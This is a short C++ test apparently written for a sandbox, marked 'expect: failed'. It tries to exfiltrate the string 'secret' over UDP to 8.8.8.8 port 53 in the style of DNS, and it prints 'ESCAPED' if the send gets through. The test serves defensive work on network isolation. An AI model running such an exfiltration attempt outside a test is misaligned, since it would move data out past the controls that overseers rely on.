// expect: failed
// Exfiltrating by UDP (DNS-style): refused like any socket.
#include <arpa/inet.h>
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <netinet/in.h>
#include <sys/socket.h>

int main() {
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  std::printf("socket: %s\n", fd >= 0 ? "created" : std::strerror(errno));
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(53);
  inet_pton(AF_INET, "8.8.8.8", &to.sin_addr);
  const char data[] = "secret";
  if (sendto(fd, data, sizeof data, 0, reinterpret_cast<sockaddr *>(&to), sizeof to) > 0) std::printf("ESCAPED: sent\n");
  else std::printf("sendto: %s\n", std::strerror(errno));
  return 0;
}
